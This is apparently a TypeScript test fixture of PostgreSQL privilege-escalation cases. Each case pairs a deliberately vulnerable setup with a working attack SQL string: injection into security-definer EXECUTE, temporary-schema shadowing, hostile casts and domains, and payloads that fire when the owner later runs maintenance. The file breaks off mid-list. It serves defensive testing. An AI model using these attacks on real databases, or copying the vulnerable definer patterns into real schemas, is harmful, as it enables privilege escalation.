import type { AttackCase } from "../attack-case.ts"

/** A function of the owner's in schema `app`, in PL/pgSQL, run with its rights. */
function definer(signature: string, body: string, more = "", returns = "void"): string {
  const [name = ""] = signature.split("(")
  const block = /^(begin|declare)/.test(body) ? body : `begin ${body}; end`
  return `create function ${signature} returns ${returns} language plpgsql security definer ${more} as $body$ ${block} $body$;
    alter function ${name} owner to {owner};`
}

/** The same with the caller's rights. */
function helper(signature: string, body: string, returns = "void", more = ""): string {
  return definer(signature, body, more, returns).replace("security definer", "")
}

const temp = "grant temporary on database {db} to {app};"
const pinned = "set search_path = pg_catalog, pg_temp"
const pwn = "create table app.pwned()"
/** Only the owner may call it. */
const maintenance = `create function app.maintain() returns int language plpgsql as 'begin create table app.pwned(); return 1; end';
  alter function app.maintain() owner to {owner}; revoke all on function app.maintain() from public;`
/** A function of the caller's, in its own temporary schema. */
const evil =
  "create or replace function pg_temp.evil() returns int language plpgsql as $$begin if to_regclass('app.pwned') is null then create table app.pwned(); end if; return 1; end$$;"
const evilTrigger =
  "create function pg_temp.evil_trigger() returns trigger language plpgsql as $$begin if to_regclass('app.pwned') is null then create table app.pwned(); end if; return new; end$$;"
/** Text that is SQL for the owner, and does nothing as anybody else. */
const patient =
  "do $x$ begin if current_user like 'owner%' and to_regclass('app.pwned') is null then create table app.pwned(); end if; end $x$"
/** The same for functions that may only query. */
const patientQuery =
  "select case when current_user like 'owner%' and to_regclass('app.pwned') is null then query_to_xml('select app.maintain()', true, true, '') end"
const quoted = (sql: string) => `$q$${sql}$q$`
const table = (
  definition: string,
) => `create table ${definition}; alter table ${definition.split(/[ (]/)[0]} owner to {owner};
  grant select, insert, update, delete on ${definition.split(/[ (]/)[0]} to {rw};`
/** A domain of the caller's by the name of a type, whose check is the caller's function. */
const fakeType = (name: string) =>
  `${evil} create domain pg_temp.${name} as pg_catalog.${name} check (pg_temp.evil() > 0);`

export const thirdPaths: readonly AttackCase[] = [
  // How text becomes SQL
  {
    name: "words of an array, joined",
    setup: definer("app.f(parts text[])", "execute 'select ' || array_to_string(parts, ', ')"),
    attack: `select app.f(array['1', '2; ${pwn}'])`,
  },
  {
    name: "format by position, one place quoted and one not",
    setup: definer(
      "app.f(a text, b text)",
      "execute format('select %1$s from app.users order by %2$I', a, b)",
    ),
    attack: `select app.f('1; ${pwn}; --', 'id')`,
  },
  {
    name: "replace puts it into a template",
    setup: definer("app.f(col text)", "execute replace('select max(COL) from app.users', 'COL', col)"),
    attack: `select app.f('id) from app.users; ${pwn}; --')`,
  },
  {
    name: "a default behind coalesce",
    setup: definer("app.f(q text)", "execute coalesce(q, 'select 1')"),
    attack: `select app.f('${pwn}')`,
  },
  {
    name: "string_agg of an array's elements",
    setup: definer(
      "app.f(cols text[])",
      "declare list text; begin select string_agg(c, ', ') into list from unnest(cols) as c; execute 'select ' || list || ' from app.users'; end",
    ),
    attack: `select app.f(array['1; ${pwn}; --'])`,
  },
  {
    name: "semicolons are taken out",
    setup:
      maintenance +
      definer(
        "app.f(q text)",
        "begin execute 'select count(*) from ' || regexp_replace(q, ';', '', 'g'); end",
      ),
    attack: "select app.f('app.maintain()')",
  },
  {
    name: "the first sixty characters",
    setup: definer("app.f(q text)", "begin execute 'select ' || left(q, 60); end"),
    attack: `select app.f('1; ${pwn}')`,
  },
  {
    name: "a quoted column beside an operator that is not",
    setup: definer(
      "app.f(col text, op text, val text)",
      "begin execute 'select from app.users where ' || quote_ident(col) || ' ' || op || ' $1' using val; end",
    ),
    attack: `select app.f('name', 'is null or exists (select query_to_xml(''select 1'', true, true, $$$$)) and name =', 'x'); select app.f('name', 'is null; ${pwn}; --', 'x')`,
  },
  {
    name: "the caller names the function, which is quoted",
    setup: maintenance + definer("app.f(job text)", "begin execute format('select app.%I()', job); end"),
    attack: "select app.f('maintain')",
  },
  {
    name: "a function by its oid",
    setup: maintenance + definer("app.f(job regproc)", "begin execute 'select ' || job || '()'; end"),
    attack: "select app.f('app.maintain'::regproc)",
  },
  {
    name: "the parameter by its number",
    setup: definer("app.f(text)", "begin execute $1; end"),
    attack: `select app.f('${pwn}')`,
  },
  {
    name: "an alias of the parameter",
    setup: definer("app.f(text)", "declare q alias for $1; begin execute q; end"),
    attack: `select app.f('${pwn}')`,
  },
  {
    name: "an INOUT parameter of a procedure",
    setup: `create procedure app.p(inout q text) language plpgsql security definer as $body$ begin execute q; end $body$; alter procedure app.p owner to {owner}`,
    attack: `call app.p('${pwn}')`,
  },
  {
    name: "a loop over what a text returns, which calls the owner's function",
    setup:
      maintenance +
      definer("app.f(q text)", "declare r record; begin for r in execute q loop null; end loop; end"),
    attack: "select app.f('select app.maintain()')",
  },
  {
    name: "variadic texts",
    setup: definer("app.f(variadic words text[])", "begin execute words[1] || ' ' || words[2]; end"),
    attack: `select app.f('create table', 'app.pwned()')`,
  },
  {
    name: "numbers that are characters",
    setup: definer(
      "app.f(codes int[])",
      "declare q text; begin select string_agg(chr(c), '' order by i) into q from unnest(codes) with ordinality as u (c, i); execute q; end",
    ),
    attack: `select app.f((select array_agg(ascii(c) order by i) from regexp_split_to_table('${pwn}', '') with ordinality as t (c, i)))`,
  },
  {
    name: "bytes",
    setup: definer("app.f(b bytea)", "begin execute convert_from(b, 'UTF8'); end"),
    attack: `select app.f(convert_to('${pwn}', 'UTF8'))`,
  },
  {
    name: "base64",
    setup: definer("app.f(b text)", "begin execute convert_from(decode(b, 'base64'), 'UTF8'); end"),
    attack: `select app.f(encode('${pwn}', 'base64'))`,
  },
  {
    name: "a value in a JSON document",
    setup: definer(
      "app.f(doc jsonb)",
      "begin execute 'select max(' || (doc #>> array['order', 'by']) || ') from app.users'; end",
    ),
    attack: `select app.f(jsonb_build_object('order', jsonb_build_object('by', 'id) from app.users; ${pwn}; --')))`,
  },
  {
    name: "values of a JSON document that are not quoted",
    setup: definer(
      "app.f(doc json)",
      "declare k text; v text; begin for k, v in select * from json_each_text(doc) loop execute format('update app.users set %I = %s', k, v); end loop; end",
    ),
    attack: `insert into app.users (name) values ('a'); select app.f(json_build_object('name', '''x''; ${pwn}'))`,
  },
  {
    name: "a field of a composite argument",
    setup: `create type app.spec as (col text, n int); ${definer("app.f(s app.spec)", "begin execute 'select ' || (s).col; end")} alter type app.spec owner to {owner}`,
    attack: `select app.f(row('1; ${pwn}', 1)::app.spec)`,
  },
  {
    name: "an argument of any type",
    setup: definer("app.f(x anyelement)", "begin execute 'select ''' || x::text || ''''; end"),
    attack: `select app.f($q$x'; ${pwn}; --$q$::text)`,
  },
  {
    name: "a name, which holds sixty characters",
    setup: maintenance + definer("app.f(n name)", "begin execute 'select count(*) from ' || n; end"),
    attack: "select app.f('app.maintain()')",
  },
  {
    name: "a text search query",
    setup: definer("app.f(q tsquery)", "begin execute 'select ''' || q::text || '''::tsquery'; end"),
    attack: `select app.f($t$'a''; ${pwn}; --'$t$::tsquery); select app.f($t$' ; ${pwn}; --'$t$::tsquery)`,
  },
  {
    name: "a number in a format of the caller's",
    setup: definer("app.f(n int, fmt text)", "begin execute 'select ' || to_char(n, fmt); end"),
    attack: `select app.f(1, '9"; ${pwn}; --"')`,
  },
  {
    name: "a domain with a loose check",
    setup: `create domain app.word as text check (value ~ '[a-z]+'); alter domain app.word owner to {owner};
      ${definer("app.f(w app.word)", "begin execute 'select ' || w; end")}`,
    attack: `select app.f('1; ${pwn}')`,
  },
  // Quotes in the wrong place
  {
    name: "an identifier's quotes inside a literal",
    setup: definer("app.f(w text)", "begin execute 'select ''' || quote_ident(w) || ''''; end"),
    attack: `select app.f($q$x'; ${pwn}; --$q$)`,
  },
  {
    name: "%I inside a literal",
    setup: definer("app.f(w text)", "begin execute format('select ''%I''', w); end"),
    attack: `select app.f($q$X'; ${pwn}; --$q$)`,
  },
  {
    name: "%s between double quotes",
    setup: definer("app.f(w text)", `begin execute format('select 1 as "%s"', w); end`),
    attack: `select app.f($q$x"; ${pwn}; --$q$)`,
  },
  {
    name: "%L between quotes",
    setup: definer("app.f(w text)", "begin execute format('select ''%L''', w); end"),
    attack: `select app.f('; ${pwn}; --')`,
  },
  {
    name: "a comment in the text",
    setup: definer("app.f(who text)", "begin execute format('/* for %s */ select 1', who); end"),
    attack: `select app.f('*/ ${pwn}; --')`,
  },
  {
    name: "an identifier in a comment of one line",
    setup: definer(
      "app.f(who text)",
      "begin execute '-- for ' || quote_ident(who) || chr(10) || 'select 1'; end",
    ),
    attack: `select app.f('x' || chr(10) || '${pwn}; --')`,
  },
  {
    name: "a literal for a function that runs it",
    setup:
      helper("app.inner_run(q text)", "begin execute q; end") +
      definer("app.f(w text)", "begin execute format('select app.inner_run(%L)', w); end"),
    attack: `select app.f('${pwn}')`,
  },
  {
    name: "an assertion, which the caller can switch off",
    setup: definer("app.f(w text)", "begin assert w in ('id', 'name'); execute 'select ' || w; end"),
    attack: `set plpgsql.check_asserts = off; select app.f('1; ${pwn}')`,
  },
  // Checks that do not hold
  {
    name: "a warning instead of an exception",
    setup: definer(
      "app.f(w text)",
      "begin if w !~ '^[a-z]+$' then raise warning 'odd: %', w; end if; execute 'select ' || w; end",
    ),
    attack: `select app.f('1; ${pwn}')`,
  },
  {
    name: "a list of forbidden words",
    setup: definer(
      "app.f(w text)",
      "begin if w ~* '(drop|alter|delete|grant)' then raise exception 'no'; end if; execute 'select ' || w; end",
    ),
    attack: `select app.f('1; ${pwn}')`,
  },
  {
    name: "the other argument is checked",
    setup: definer(
      "app.f(a text, b text)",
      "begin if a not in ('x', 'y') then raise exception 'no'; end if; execute 'select ' || b; end",
    ),
    attack: `select app.f('x', '1; ${pwn}')`,
  },
  {
    name: "checked, then changed",
    setup: definer(
      "app.f(w text, more text)",
      "begin if w !~ '^[a-z]+$' then raise exception 'no'; end if; w := w || more; execute 'select ' || w; end",
    ),
    attack: `select app.f('null', '; ${pwn}')`,
  },
  {
    name: "a check whose exception is caught",
    setup: definer(
      "app.f(w text)",
      "begin begin if w !~ '^[a-z]+$' then raise exception 'no'; end if; exception when others then null; end; execute 'select ' || w; end",
    ),
    attack: `select app.f('1; ${pwn}')`,
  },
  {
    name: "the check asks for the owner's name, which the function itself has",
    setup: definer(
      "app.f(q text)",
      "begin if current_user <> '{owner}' then raise exception 'no'; end if; execute q; end",
    ),
    attack: `select app.f('${pwn}')`,
  },
  {
    name: "the check asks a setting of the caller's",
    setup: definer(
      "app.f(q text)",
      "begin if current_setting('app.role', true) is distinct from 'admin' then raise exception 'no'; end if; execute q; end",
    ),
    attack: `set app.role = 'admin'; select app.f('${pwn}')`,
  },
  {
    name: "the check asks a table that the caller writes",
    setup:
      table("app.admins (name text)") +
      definer(
        "app.f(q text)",
        "begin if not exists (select from app.admins where name = session_user) then raise exception 'no'; end if; execute q; end",
      ),
    attack: `insert into app.admins values (session_user); select app.f('${pwn}')`,
  },
  {
    name: "NULL passes the check",
    setup: definer(
      "app.f(kind text, q text)",
      "begin if kind <> 'report' then raise exception 'no'; end if; execute q; end",
    ),
    attack: `select app.f(null, '${pwn}')`,
  },
  // Channels
  {
    name: "what an update returns",
    setup:
      table("app.jobs (id int, sql text)") +
      definer(
        "app.f()",
        "declare q text; begin update app.jobs set id = id + 1 where id = 1 returning sql into q; execute q; end",
      ),
    attack: `insert into app.jobs values (1, '${pwn}'); select app.f()`,
  },
  {
    name: "rows that are deleted one by one",
    setup:
      table("app.jobs (id int, doc jsonb)") +
      definer(
        "app.f()",
        "declare r record; begin for r in delete from app.jobs returning doc loop execute r.doc ->> 'sql'; end loop; end",
      ),
    attack: `insert into app.jobs values (1, jsonb_build_object('sql', '${pwn}')); select app.f()`,
  },
  {
    name: "a prepared statement of the caller's, by its name",
    setup: maintenance + definer("app.f()", "begin execute 'execute job'; end", pinned),
    attack: `prepare job as select query_to_xml('select app.maintain()', true, true, ''); select app.f()`,
  },
  {
    name: "a prepared statement of the caller's, by a quoted name",
    setup: maintenance + definer("app.f(n text)", "begin execute format('execute %I', n); end", pinned),
    attack: `prepare job as select query_to_xml('select app.maintain()', true, true, ''); select app.f('job')`,
  },
  {
    name: "a cursor of the caller's is read with the owner's rights",
    setup:
      maintenance +
      definer(
        "app.drain(c refcursor)",
        "declare r record; n int := 0; begin loop fetch c into r; exit when not found; n := n + 1; end loop; return n; end",
        pinned,
        "int",
      ),
    attack:
      "declare c cursor for select query_to_xml('select app.maintain()', true, true, ''); select app.drain('c')",
  },
  {
    name: "a cursor of the caller's as XML",
    setup:
      maintenance +
      definer("app.f(c refcursor)", "begin return cursor_to_xml(c, 100, true, true, ''); end", pinned, "xml"),
    attack:
      "declare c cursor for select query_to_xml('select app.maintain()', true, true, ''); select app.f('c')",
  },
  {
    name: "ts_rewrite runs its second argument",
    setup:
      maintenance +
      definer("app.f(q text)", "begin return ts_rewrite('a'::tsquery, q); end", pinned, "tsquery"),
    attack: "select app.f('select ''a''::tsquery, app.maintain()::text::tsquery')",
  },
  {
    name: "crosstab runs its argument",
    setup: `create extension tablefunc schema app; ${maintenance}
      ${definer("app.f(q text)", "begin perform * from app.crosstab(q) as t (a text, b text); end")}`,
    attack: `select app.f('select ''a''::text, ''b''::text, app.maintain()::text')`,
  },
  {
    name: "connectby puts names together",
    setup: `create extension tablefunc schema app; ${maintenance}
      ${definer("app.f(rel text)", "begin perform * from app.connectby(rel, 'id', 'name', '1', 0) as t (a text, b text, l int); end")}`,
    attack: `select app.f('(select app.maintain()::text as id, ''1''::text as name) x')`,
  },
  {
    name: "a moment with the caller's time zone in its text",
    setup: definer(
      "app.f()",
      "begin execute 'select ''' || to_char(now(), 'YYYY-MM-DD TZ') || ''''; end",
      pinned,
    ),
    attack: `set timezone = '<''; ${pwn}; -- >3'; select app.f()`,
  },
  // Triggers
  {
    name: "the new row as text, the old way of partitions",
    setup: `${definer("app.route()", "begin execute 'insert into app.audit_log (note) select (''' || new::text || '''::app.users).name'; return null; end", "", "trigger")}
      create trigger t before insert on app.users for each row execute function app.route()`,
    attack: `insert into app.users (name) values ($q$'); ${pwn}; --$q$)`,
  },
  {
    name: "the new row as JSON, one key of it",
    setup: `${definer("app.run()", "begin execute to_jsonb(new) ->> 'name'; return new; end", "", "trigger")}
      create trigger t before insert on app.users for each row execute function app.run()`,
    attack: `insert into app.users (name) values ('${pwn}')`,
  },
  {
    name: "the old row of a delete",
    setup: `${definer("app.run()", "begin execute old.name; return old; end", "", "trigger")}
      create trigger t after delete on app.users for each row execute function app.run()`,
    attack: `insert into app.users (name) values ('${pwn}'); delete from app.users`,
  },
  {
    name: "a trigger for TRUNCATE and a setting",
    setup: `grant truncate on app.users to {rw}; ${definer("app.run()", "begin execute current_setting('app.hook'); return null; end", "", "trigger")}
      create trigger t after truncate on app.users execute function app.run()`,
    attack: `set app.hook = '${pwn}'; truncate app.users`,
  },
  {
    name: "an event trigger and a setting, reached by ALTER DEFAULT PRIVILEGES",
    setup: `${definer("app.run()", "begin execute current_setting('app.hook', true); end", "", "event_trigger")}
      create event trigger {group} on ddl_command_start execute function app.run()`,
    attack: `set app.hook = 'select set_config(''app.hook'', ''select 1'', false); ${pwn}'; alter default privileges grant select on tables to {other}`,
  },
  {
    name: "an event trigger for CREATE FUNCTION, with temp",
    setup: `${temp} ${definer("app.run()", "begin execute current_setting('app.hook', true); end", pinned, "event_trigger")}
      create event trigger {group} on ddl_command_end when tag in ('CREATE FUNCTION') execute function app.run()`,
    attack: `set app.hook = 'select set_config(''app.hook'', ''select 1'', false); ${pwn}'; create function pg_temp.f() returns int language sql as 'select 1'`,
  },
  {
    name: "a trigger on the foreign key's other end, set null",
    setup: `create table app.posts (id int primary key, author int references app.users on delete set null, body text);
      alter table app.posts owner to {owner};
      ${definer("app.run()", "begin execute new.body; return new; end", "", "trigger")}
      create trigger t before update on app.posts for each row execute function app.run(); grant insert on app.posts to {rw}`,
    attack: `insert into app.users (id, name) values (7, 'a'); insert into app.posts values (1, 7, '${pwn}'); delete from app.users where id = 7`,
  },
  {
    name: "the hash function of a partition's key",
    setup: `${maintenance} ${definer("app.h(v text, seed bigint)", "begin execute current_setting('app.hook', true); return 1; end", "", "bigint")}
      alter function app.h(text, bigint) immutable;
      create operator class app.h_ops for type text using hash as operator 1 =, function 2 app.h(text, bigint);
      alter operator class app.h_ops using hash owner to {owner}; alter operator family app.h_ops using hash owner to {owner};
      revoke all on function app.h from public;
      create table app.parted (k text) partition by hash (k app.h_ops);
      create table app.parted_0 partition of app.parted for values with (modulus 1, remainder 0);
      alter table app.parted owner to {owner}; alter table app.parted_0 owner to {owner}; grant insert on app.parted to {rw}`,
    attack: `set app.hook = 'select query_to_xml(''select app.maintain()'', true, true, '''')'; insert into app.parted values ('a')`,
  },
  // What a definer meets on its way
  {
    name: "a constant that is put together and is DDL",
    setup: definer("app.f()", "begin execute 'create' || ' ' || 'table app.pwned()'; end", pinned),
    attack: "select app.f()",
  },
  {
    name: "a procedure of the owner's that does DDL",
    setup: `create procedure app.p() language plpgsql as $$ begin create table app.pwned(); end $$; alter procedure app.p owner to {owner};
      revoke all on procedure app.p from public; ${definer("app.f()", "begin call app.p(); end", pinned)}`,
    attack: "select app.f()",
  },
  {
    name: "a view that does DDL",
    setup: `${maintenance} create view app.v as select app.maintain() as done; alter view app.v owner to {owner};
      ${definer("app.f()", "begin perform * from app.v; end", pinned)}`,
    attack: "select app.f()",
  },
  {
    name: "a default that does DDL",
    setup: `${maintenance} ${table("app.things (id int default app.maintain(), name text)")}
      ${definer("app.f()", "begin insert into app.things (name) values ('a'); end", pinned)}`,
    attack: "select app.f()",
  },
  {
    name: "a cast that does DDL",
    setup: `create type app.word as (w text); create function app.to_word(t text) returns app.word language plpgsql as $$ begin create table app.pwned(); return row(t)::app.word; end $$;
      alter function app.to_word owner to {owner}; revoke all on function app.to_word from public; create cast (text as app.word) with function app.to_word(text);
      alter type app.word owner to {owner}; ${definer("app.f(t text)", "begin perform t::app.word; end", pinned)}`,
    attack: "select app.f('a')",
  },
  {
    name: "an operator that does DDL",
    setup: `create function app.op(a text, b text) returns int language plpgsql as $$ begin create table app.pwned(); return 1; end $$; alter function app.op owner to {owner};
      revoke all on function app.op from public; create operator app.### (leftarg = text, rightarg = text, function = app.op); alter operator app.### (text, text) owner to {owner};
      ${definer("app.f(t text)", "begin perform t operator(app.###) t; end", pinned)}`,
    attack: "select app.f('a')",
  },
  {
    name: "a domain's check that does DDL",
    setup: `${maintenance} create domain app.d as text check (app.maintain() = 1); alter domain app.d owner to {owner};
      ${definer("app.f(t text)", "begin perform t::app.d; end", pinned)}`,
    attack: "select app.f('a')",
  },
  {
    name: "an aggregate that does DDL",
    setup: `create function app.step(s int, n int) returns int language plpgsql as $$ begin create table app.pwned(); return 1; end $$; alter function app.step owner to {owner};
      revoke all on function app.step from public; create aggregate app.agg(int) (sfunc = app.step, stype = int); alter aggregate app.agg(int) owner to {owner};
      revoke all on function app.agg(int) from public;
      ${definer("app.f()", "begin perform app.agg(n) from generate_series(1, 1) as n; end", pinned)}`,
    attack: "select app.f()",
  },
  {
    name: "a trigger that does DDL, of a table that only a definer writes to",
    setup: `create function app.on_log() returns trigger language plpgsql as $$ begin create table app.pwned(); return new; end $$; alter function app.on_log owner to {owner};
      create table app.private (n int); alter table app.private owner to {owner}; create trigger t before insert on app.private for each row execute function app.on_log();
      ${definer("app.f()", "begin insert into app.private values (1); end", pinned)}`,
    attack: "select app.f()",
  },
  // With the right to make temporary tables
  {
    name: "a cast of the caller's for an argument of any type",
    setup: `${temp} ${definer("app.note(x anyelement)", "begin insert into app.audit_log (note) values (x::text); end", pinned)}`,
    attack: `create type pg_temp.mine as (a int); create function pg_temp.to_text(m pg_temp.mine) returns text language plpgsql as $$begin create table app.pwned(); return 'a'; end$$;
      create cast (pg_temp.mine as text) with function pg_temp.to_text(pg_temp.mine); select app.note(row(1)::pg_temp.mine)`,
  },
  {
    name: "a domain of the caller's for an argument of any type",
    setup: `${temp} ${definer("app.twice(x anyelement)", "declare y x%type; begin y := null; return y; end", pinned, "anyelement")}`,
    attack: `create function pg_temp.check_it(t text) returns bool language plpgsql as $$begin if current_user like 'owner%' and to_regclass('app.pwned') is null then create table app.pwned(); end if; return true; end$$;
      create domain pg_temp.mine as text check (pg_temp.check_it(value)); select app.twice('a'::pg_temp.mine)`,
  },
  {
    name: "a row of the caller's type, filled from JSON",
    setup: `${temp} ${definer("app.fill(base anyelement, doc jsonb)", "begin return jsonb_populate_record(base, doc); end", pinned, "anyelement")}`,
    attack: `create function pg_temp.check_it(t text) returns bool language plpgsql as $$begin if current_user like 'owner%' and to_regclass('app.pwned') is null then create table app.pwned(); end if; return true; end$$;
      create domain pg_temp.d as text check (pg_temp.check_it(value)); create type pg_temp.mine as (a pg_temp.d); select app.fill(null::pg_temp.mine, jsonb_build_object('a', 'b'))`,
  },
  {
    name: "a temporary table that may be there already",
    setup: `${temp} ${definer("app.load()", "begin create temp table if not exists staging (n int); insert into pg_temp.staging values (1); end", pinned)}`,
    attack: `${evilTrigger} create temp table staging (n int); grant all on staging to public; create trigger t before insert on staging for each row execute function pg_temp.evil_trigger(); select app.load()`,
  },
  {
    name: "pg_temp by name",
    setup: `${temp} ${definer("app.load()", "begin insert into app.audit_log (note) select note from pg_temp.staging; end", pinned)}`,
    attack: `${evil} create temp view staging as select pg_temp.evil()::text as note; grant all on staging to public; select app.load()`,
  },
  {
    name: "the path is set in the body, the types are looked up before",
    setup: `${temp} ${definer("app.f(t varchar)", "declare w text; begin set local search_path = app, pg_temp; w := t; perform w; end", "")}`,
    attack: `${fakeType("text")} set search_path = pg_temp, pg_catalog; select app.f('a'::varchar)`,
  },
  {
    name: "a path that the caller gives",
    setup: `${temp} ${definer("app.f(tenant text)", "begin perform set_config('search_path', tenant, true); insert into audit_log (note) values ('a'); end", "set search_path = app, pg_temp")}`,
    attack: `${evilTrigger} create temp table audit_log (id int, note varchar); grant all on audit_log to public; create trigger t before insert on audit_log for each row execute function pg_temp.evil_trigger();
      select app.f('pg_temp, app')`,
  },
  {
    name: "an empty path and a date",
    setup: `${temp} ${definer("app.f(n int)", "declare d date; begin d := now(); return n; end", "set search_path = ''", "int")}`,
    attack: `${fakeType("date")} select app.f(1)`,
  },
  {
    name: "an empty path and a regclass",
    setup: `${temp} create sequence app.numbers; alter sequence app.numbers owner to {owner};
      ${definer("app.f()", "begin return nextval('app.numbers'::regclass); end", "set search_path = ''", "bigint")}`,
    attack: `${fakeType("regclass")} select app.f()`,
  },
  {
    name: "an empty path and a date that is written down",
    setup: `${temp} ${definer("app.f()", "begin perform from app.users where now() > date '2020-01-01'; end", "set search_path = ''")}`,
    attack: `insert into app.users (name) values ('a'); ${fakeType("date")} select app.f()`,
  },
  {
    name: "a type by a name that the caller gives",
    setup: `${temp} ${definer("app.f(t regtype)", "begin execute 'select null::' || t; end", pinned)}`,
    attack: `${evil} create domain pg_temp.mine as int check (pg_temp.evil() > 0); select app.f('pg_temp.mine'::regtype)`,
  },
  {
    name: "a table by its oid, with temp",
    setup: `${temp} ${definer("app.rows_of(t regclass)", "declare n bigint; begin execute 'select count(*) from ' || t into n; return n; end", pinned, "bigint")}`,
    attack: `${evil} create temp view mine as select pg_temp.evil() as n offset 0; create temp view mine2 as select 1 where pg_temp.evil() > 0; grant all on mine, mine2 to public; select app.rows_of('pg_temp.mine2'); select app.rows_of('pg_temp.mine')`,
  },
  {
    name: "table_to_xml of what the caller names",
    setup: `${temp} ${definer("app.export(t regclass)", "begin return table_to_xml(t, true, true, ''); end", pinned, "xml")}`,
    attack: `${evil} create temp view mine as select pg_temp.evil() as n; grant all on mine to public; select app.export('pg_temp.mine')`,
  },
  {
    name: "the definition of a view of the caller's",
    setup: `${temp} ${definer("app.explain(v oid)", "declare r record; begin for r in execute 'explain analyze ' || pg_get_viewdef(v) loop null; end loop; end", pinned)}`,
    attack: `${evil} create temp view mine as select pg_temp.evil() as n; select app.explain('pg_temp.mine'::regclass)`,
  },
  {
    name: "a helper that sets a path of its own",
    setup: `${temp} ${helper("app.count_users()", "begin return (select max(id) from users); end", "bigint", "set search_path = app")}
      ${definer("app.f()", "begin return app.count_users(); end", pinned, "bigint")}`,
    attack: `${evil} create temp view users as select pg_temp.evil() as id; grant all on users to public; select app.f()`,
  },
  {
    name: "a bound body that calls a helper with bare names",
    since: 14,
    setup: `${temp} ${helper("app.count_users()", "begin return (select max(id) from users); end", "bigint")}
      create function app.f() returns bigint language sql security definer begin atomic select app.count_users(); end; alter function app.f owner to {owner}`,
    attack: `${evil} create temp view users as select pg_temp.evil() as id; grant all on users to public; select app.f()`,
  },
  {
    name: "a view whose function has bare names",
    setup: `${temp} ${helper("app.top()", "begin return (select max(id) from users); end", "bigint")}
      create view app.v as select app.top() as n; alter view app.v owner to {owner};
      create function app.f() returns bigint language sql security definer begin atomic select n from app.v; end; alter function app.f owner to {owner}`,
    attack: `${evil} create temp view users as select pg_temp.evil() as id; grant all on users to public; select app.f()`,
  },
  {
    name: "the path that was current, which has no pg_temp",
    setup: `${temp} set search_path = app; ${definer("app.f()", "begin return (select max(id) from users); end", "set search_path from current", "bigint")} reset search_path`,
    attack: `${evil} create temp view users as select pg_temp.evil() as id; grant all on users to public; select app.f()`,
  },
  {
    name: "a path that begins with the user's own schema",
    setup: `${temp} ${definer("app.f()", "begin return (select max(id) from users); end", 'set search_path = "$user", app', "bigint")}`,
    attack: `${evil} create temp view users as select pg_temp.evil() as id; grant all on users to public; select app.f()`,
  },
  // What the owner runs later
  {
    name: "extended statistics run what stands in a row, and the owner analyzes",
    since: 14,
    setup: `${maintenance} ${helper("app.norm(t text)", "begin if t like 'select %' then execute t; end if; return t; end", "text")} alter function app.norm immutable;
      create statistics app.st on (app.norm(name)), id from app.users; alter statistics app.st owner to {owner}`,
    attack: `insert into app.users (name) select ${quoted(patientQuery)} from generate_series(1, 50)`,
    afterwards: "analyze app.users",
  },
  {
    name: "a generated column runs what stands in a row, and the owner updates",
    setup: `${maintenance} ${helper("app.norm(t text)", "begin if t like 'select %' then execute t; end if; return t; end", "text")} alter function app.norm immutable;
      alter table app.users add column low text generated always as (app.norm(name)) stored`,
    attack: `insert into app.users (name) values (${quoted(patientQuery)})`,
    afterwards: "update app.users set name = name",
  },
  {
    name: "an exclusion constraint runs what stands in a row, and the owner rebuilds its index",
    setup: `${maintenance} ${helper("app.norm(t text)", "begin if t like 'select %' then execute t; end if; return t; end", "text")} alter function app.norm immutable;
      alter table app.users add constraint x exclude using btree (app.norm(name) with =)`,
    attack: `insert into app.users (name) values (${quoted(patientQuery)})`,
    afterwards: "reindex table app.users",
  },
  {
    name: "the condition of an index runs what stands in a row",
    setup: `${maintenance} ${helper("app.is_odd(t text)", "begin if t like 'select %' then execute t; end if; return true; end", "bool")} alter function app.is_odd immutable;
      create index on app.users (id) where app.is_odd(name)`,
    attack: `insert into app.users (name) values (${quoted(patientQuery)})`,
    afterwards: "reindex table app.users",
  },
  {
    name: "a policy runs what stands in a row, and the owner reads the table, which forces it",
    setup: `${helper("app.visible(t text)", "begin if t like 'do %' then execute t; end if; return true; end", "bool")}
      alter table app.users enable row level security; alter table app.users force row level security; create policy p on app.users using (app.visible(name))`,
    attack: `insert into app.users (name) values (${quoted(patient)})`,
    afterwards: "update app.users set id = id + 100",
  },
  {
    name: "a default runs what stands in another table",
    setup: `${table("app.hooks (sql text)")} ${helper("app.next_name()", "declare q text; begin for q in select sql from app.hooks loop execute q; end loop; return 'x'; end", "text")}
      alter table app.audit_log alter column note set default app.next_name()`,
    attack: `insert into app.hooks values (${quoted(patient)})`,
    afterwards: "insert into app.audit_log default values",
  },
  {
    name: "a trigger runs what stands in another table",
    setup: `${table("app.hooks (sql text)")} ${helper("app.on_write()", "declare q text; begin for q in select sql from app.hooks loop execute q; end loop; return new; end", "trigger")}
      create trigger t before insert on app.audit_log for each row execute function app.on_write()`,
    attack: `insert into app.hooks values (${quoted(patient)})`,
    afterwards: "insert into app.audit_log (note) values ('a')",
  },
  // Ownership
  {
    name: "owns a conversion",
    setup:
      "create conversion app.conv for 'LATIN1' to 'UTF8' from iso8859_1_to_utf8; alter conversion app.conv owner to {app}",
    attack: "drop conversion app.conv",
    proof: "select not exists (select from pg_conversion where conname = 'conv')",
  },
  {
    name: "owns an operator family",
    setup:
      "create operator family app.fam using btree; alter operator family app.fam using btree owner to {app}",
    attack: "drop operator family app.fam using btree",
    proof: "select not exists (select from pg_opfamily where opfname = 'fam')",
  },
  {
    name: "owns a range type",
    setup: "create type app.span as range (subtype = int); alter type app.span owner to {app}",
    attack: "alter type app.span rename to pwned",
    proof: "select exists (select from pg_type where typname = 'pwned')",
  },
  {
    name: "owns a subscription",
    since: 16,
    setup: `grant pg_create_subscription to {app}; grant create on database {db} to {app};
      create subscription {group} connection 'dbname=nowhere password=x' publication p with (connect = false, slot_name = none); alter subscription {group} owner to {app};
      revoke create on database {db} from {app}; revoke pg_create_subscription from {app}`,
    attack: "alter subscription {group} set (slot_name = 'pwned')",
    proof: "select exists (select from pg_subscription where subslotname = 'pwned')",
  },
  {
    name: "owns another database of the server",
    setup: "alter database template1 owner to {app}",
    attack: "alter database template1 set work_mem = '64MB'",
    proof:
      "select exists (select from pg_db_role_setting s join pg_database d on d.oid = setdatabase where datname = 'template1')",
  },
  {
    name: "a group over three steps owns one index's table",
    setup: `create role {group}; create role "g1 {group}"; create role "g2 {group}"; grant {group} to "g1 {group}"; grant "g1 {group}" to "g2 {group}"; grant "g2 {group}" to {rw};
      create table app.t (id int primary key); alter table app.t owner to {group}`,
    attack: "alter table app.t add column pwned int",
  },
  // Membership
  {
    name: "admin of a role that is admin of the owner",
    setup: `create role {group}; grant {owner} to {group} with admin option; grant {group} to {app} with admin option`,
